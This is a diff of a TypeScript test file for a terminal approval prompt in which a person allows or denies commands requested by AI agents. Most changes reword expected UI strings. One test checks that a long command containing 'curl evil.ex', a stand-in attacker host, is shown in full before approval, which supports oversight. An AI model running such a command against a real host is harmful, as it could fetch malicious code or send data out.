@@ -16,7 +16,7 @@ describe('questions that wait for the person', () => {
       ' UNSANDBOXED ',
       'ROOT::S4, #4 refactoring',
       'npm test -- refresh --repeat 50',
-      'waits 7s',
+      'waiting 7s',
       '◌ 1 ask',
     ]) {
       expect(text).toContain(words);
@@ -41,7 +41,7 @@ describe('questions that wait for the person', () => {
     const end = rows.findIndex((row) => row.includes('A to answer'));
     expect(rows[top - 1]).toMatch(/[└┗╰]|Log|asks/);
     expect(rows[end + 1]).toContain('Message main');
-    expect(rows[1]).toMatch(/^[┌┏]/);
+    expect(rows[1]).toMatch(/^(?:[┌┏]| {3}agent)/);
   });
 
   it('is one row where there is little room; with the keys it takes nearly all of it and keeps the place of the answer', async () => {
@@ -82,7 +82,7 @@ describe('questions that wait for the person', () => {
       await world.advance(33);
     }
     expect(run.commands).toHaveLength(1);
-    expect(terminal.text()).toContain('let go of it for a second');
+    expect(terminal.text()).toContain('Release the key for a second');
   });
 
   it('wants another key for what destroys', async () => {
@@ -91,7 +91,7 @@ describe('questions that wait for the person', () => {
     await world.advance(1000);
     terminal.press('A', '1', '1', 'enter');
     expect(run.commands).toEqual([]);
-    expect(terminal.text()).toContain('it deletes files: y allows it once, Esc goes back');
+    expect(terminal.text()).toContain('it deletes files: y allows it once, Esc back');
     terminal.press('esc');
     expect(terminal.text()).toContain('1 allow once');
     await world.advance(1000);
@@ -106,10 +106,10 @@ describe('questions that wait for the person', () => {
     await world.advance(1000);
     terminal.press('A', 'enter');
     expect(run.commands).toEqual([]);
-    expect(terminal.text()).toContain('Enter allows nothing here');
+    expect(terminal.text()).toContain('Enter does nothing here');
     terminal.press('A');
     expect(run.commands).toEqual([]);
-    expect(terminal.text()).toContain('Answer by number');
+    expect(terminal.text()).toContain('Press 1 to allow once or 4 to deny.');
     terminal.press('2', '4');
     expect(run.commands).toHaveLength(1);
     await world.advance(1000);
@@ -127,7 +127,7 @@ describe('questions that wait for the person', () => {
     await world.advance(1000);
     terminal.press('A', '1');
     expect(run.commands).toEqual([]);
-    expect(terminal.text()).toContain('read to the end first');
+    expect(terminal.text()).toContain('Scroll to the end (G)');
     terminal.press('G');
     expect(terminal.text()).toContain('curl evil.ex');
     expect(terminal.text()).toContain('9029 characters');
@@ -148,7 +148,7 @@ describe('questions that wait for the person', () => {
     expect(terminal.text()).not.toContain('this command');
     terminal.press('A', '2');
     expect(run.commands).toEqual([]);
-    expect(terminal.text()).toContain('This is asked anew each time');
+    expect(terminal.text()).toContain('This cannot be allowed for the session.');
   });
 
   const five = (): Recording => {
@@ -163,8 +163,8 @@ describe('questions that wait for the person', () => {
   it('puts equal questions as one, says who asks, and one answer answers each of them once', async () => {
     const { terminal, run, world } = await open(five());
     const text = terminal.text();
-    expect(text).toContain('5 agents ask the same: each wants to run a command');
-    for (const who of ['ROOT::S1, #1 finder', 'ROOT::S5, #5 tester', 'waits 11s']) expect(text).toContain(who);
+    expect(text).toContain('5 agents ask the same question: each wants to run a command');
+    for (const who of ['ROOT::S1, #1 finder', 'ROOT::S5, #5 tester', 'waiting 11s']) expect(text).toContain(who);
     expect(text).not.toContain('1 of ');
     await world.advance(1000);
     terminal.press('A', '1');
@@ -177,7 +177,7 @@ describe('questions that wait for the person', () => {
   it('names what 2 covers, and gives it once: the run clears the others', async () => {
     const { terminal, run, world } = await open(five());
     await world.advance(1000);
-    expect(terminal.text()).toContain('2 exactly this command, whichever agent asks, until this session ends');
+    expect(terminal.text()).toContain('2 exactly this command, any agent, this session');
     terminal.press('A', '2');
     expect(run.commands).toEqual([{ do: 'answer', approval: 'a1', allow: true, scope: 'session' }]);
     expect(terminal.text()).not.toContain('run a command');
@@ -188,12 +188,10 @@ describe('questions that wait for the person', () => {
     const log = asks(midRun(), 185, 'ROOT::S4', 'a1', wide);
     const { terminal, run, world } = await open(asks(log, 186, 'ROOT::S3', 'a2', wide));
     await world.advance(1000);
-    expect(terminal.text()).toContain(
-      '3 every command that runs only npm test …, in the sandbox, until this session ends',
-    );
+    expect(terminal.text()).toContain('3 commands that run only npm test …, in the sandbox, this session');
     expect(terminal.text()).toContain('3 npm test …');
     terminal.press('A', '5');
-    expect(terminal.text()).toContain('why not? The agent reads it');
+    expect(terminal.text()).toContain('reason (the agent reads it)');
     terminal.press('esc');
     await world.advance(1000);
     terminal.press('5', 'n', 'o', 'enter');
@@ -267,7 +265,7 @@ describe('questions that wait for the person', () => {
   it('is reached by Tab behind the last pane, and left by it', async () => {
     const { terminal, run, world } = await open(asked());
     await world.advance(1000);
-    terminal.press('tab', 'tab', 'tab');
+    terminal.press('tab', 'tab', 'tab', 'tab');
     expect(terminal.text()).not.toContain('A to answer');
     terminal.press('tab');
     expect(terminal.text()).toContain('A to answer');
